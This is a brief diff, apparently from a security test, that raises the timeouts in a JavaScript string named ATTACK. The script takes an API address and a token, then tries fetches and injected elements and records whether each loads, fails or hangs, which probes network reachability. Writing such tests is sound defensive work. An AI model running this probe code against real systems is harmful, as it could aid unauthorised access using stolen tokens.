@@ -35,7 +35,7 @@ ATTACK = """async ([api, token]) => {
   const told = {};
   const attempt = async (name, url, options) => {
     try {
-      const answer = await fetch(url, {signal: AbortSignal.timeout(5000), ...options});
+      const answer = await fetch(url, {signal: AbortSignal.timeout(30000), ...options});
       told[name] = `${answer.type} ${answer.status}`;
     }
     catch { told[name] = "failed"; }
@@ -44,7 +44,7 @@ ATTACK = """async ([api, token]) => {
     const made = document.createElement(tag);
     made.onload = () => { told[name] = "loaded"; done(); };
     made.onerror = () => { told[name] = "failed"; done(); };
-    setTimeout(() => { told[name] ??= "hangs"; done(); }, 3000);
+    setTimeout(() => { told[name] ??= "hangs"; done(); }, 30000);
     made.src = url;
     document.body.append(made);
   });
